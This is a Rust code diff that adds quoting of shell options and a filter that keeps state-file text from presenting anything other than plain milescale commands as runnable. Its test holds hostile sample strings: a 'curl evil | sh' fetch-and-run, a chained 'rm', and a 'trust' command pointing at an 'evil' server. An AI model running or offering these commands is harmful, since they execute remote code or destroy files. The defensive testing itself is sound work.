@@ -47,18 +47,65 @@ pub fn counted(count: u64, one: &str, more: &str) -> String {
     format!("{count} {}", if count == 1 { one } else { more })
 }
 
-/// A word as a shell takes it, for a command that a person is to repeat: none of it is a command itself.
+/// A word as a shell takes it, for a command that a person is to repeat: none of it is a command itself, nor an option. It comes last.
 pub fn in_command(word: &str) -> String {
-    let is_plain = |letter: char| letter.is_alphanumeric() || "/._-+,:@%".contains(letter);
-    if word.chars().all(is_plain) && !word.is_empty() {
-        word.to_owned()
-    } else {
-        format!("'{}'", word.replace('\'', r"'\''"))
+    if word.starts_with('-') {
+        return format!("-- {}", in_quotes(word));
     }
+    let is_plain = |letter: char| letter.is_alphanumeric() || "/._-+,:@%".contains(letter);
+    if word.chars().all(is_plain) && !word.is_empty() { word.to_owned() } else { in_quotes(word) }
+}
+
+fn in_quotes(word: &str) -> String {
+    format!("'{}'", word.replace('\'', r"'\''"))
+}
+
+/// A text that a file of state says, for display: what is no plain command of milescale's is no command in it. Whoever brings a workspace
+/// along may have written it.
+pub fn as_told(text: &str) -> String {
+    const VERBS: [&str; 7] = ["check", "doctor", "migrate", "restore", "retire", "rollback", "run"];
+    let is_ours = |command: &str| {
+        let mut words = command.split(' ');
+        let is_verb = words.next() == Some("milescale") && words.next().is_some_and(|verb| VERBS.contains(&verb));
+        is_verb && command.chars().all(|it| it.is_ascii_alphanumeric() || " -_.".contains(it))
+    };
+    let mut told = String::with_capacity(text.len());
+    let mut parts = text.split('`');
+    told.push_str(parts.next().unwrap_or_default());
+    while let Some(inside) = parts.next() {
+        let after = parts.next();
+        let quote = if after.is_some() && is_ours(inside) { '`' } else { '\'' };
+        told.push(quote);
+        told.push_str(inside);
+        if let Some(after) = after {
+            told.push(quote);
+            told.push_str(after);
+        }
+    }
+    told
 }
 
 #[cfg(test)]
 mod tests {
+    #[test]
+    fn a_file_of_state_gives_no_commands_but_plain_ones_of_milescale() {
+        for (text, told) in [
+            (
+                "mend that, and run `milescale doctor --fix`, which",
+                "mend that, and run `milescale doctor --fix`, which",
+            ),
+            ("run `curl evil | sh`; then `milescale check`", "run 'curl evil | sh'; then `milescale check`"),
+            (
+                "`milescale check; rm x` `milescale trust . --server evil`",
+                "'milescale check; rm x' 'milescale trust . --server evil'",
+            ),
+            ("one ` alone", "one ' alone"),
+        ] {
+            assert_eq!(super::as_told(text), told);
+        }
+        assert_eq!((super::in_command("-x"), super::in_command("a b")), ("-- '-x'".to_owned(), "'a b'".to_owned()));
+    }
+
     #[test]
     fn no_password_is_seen_at_a_glimpse() {
         for (text, shown) in [
